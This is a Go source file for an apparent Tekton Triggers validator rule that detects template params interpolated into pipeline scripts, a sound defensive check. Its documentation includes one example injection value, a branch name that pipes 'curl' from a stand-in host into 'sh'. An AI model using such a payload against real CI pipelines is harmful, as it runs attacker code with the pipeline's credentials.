package expressions

import (
	"context"
	"strings"

	"github.com/tekgate/tekgate/validator/rule"
)

var scriptInjectionRule = &rule.Rule{
	ID:       "script-injection",
	Severity: rule.Warning,
	Kinds:    kindsWithTemplates,
	Doc: `Finds params of a TriggerTemplate that become part of a script, or of the code that a
shell or interpreter is given with ` + "`-c`" + ` or ` + "`-e`" + `: written there as ` + "`$(tt.params.x)`" + `, or through the
params of the TaskRun, PipelineRun, pipeline's task or Task that stands in the template.

Triggers puts the value in as text. A branch with the name ` + "`x;curl${IFS}evil.example|sh`" + `, or a
pull request's title, is run by the step, with its registry credentials, and whoever may
open a pull request may choose it (tektoncd/triggers#675).

The remedy is an environment variable: give the step ` + "`env: [{name: BRANCH, value:" + `
` + "$(tt.params.branch)}]`" + ` and write ` + "`\"$BRANCH\"`" + ` in the script. What stands in env, in arguments that
are no code, and in the words after the code of ` + "`sh -c`" + ` passes. Whether a param comes from the
event a template does not say: one that only has fixed values may be excepted.`,
	Check: checkScriptInjection,
}

func checkScriptInjection(_ context.Context, p *rule.Pass) {
	for _, flow := range flowsOfTemplates(p, useScript) {
		p.Report(flow.Path,
			"%s holds %s, so whoever chooses it runs commands there: give the step an env variable with that value, and use the variable in quotes",
			flow.Name, flow.how())
	}
}

// how is what the text holds, as its reader sees it.
func (f paramFlow) how() string {
	direct := templateParamsOf(f.Text)
	if len(direct) == len(f.Params) {
		return templateParamsText(f.Params)
	}
	return "params with the value of " + templateParamsText(f.Params)
}

// templateParamsText writes names as the template does; more than three are but counted.
func templateParamsText(names []string) string {
	const most = 3
	var text strings.Builder
	for i, name := range names {
		if i == most {
			text.WriteString(" and more")
			break
		}
		if i > 0 {
			text.WriteString(", ")
		}
		text.WriteString("$(tt.params." + name + ")")
	}
	return text.String()
}
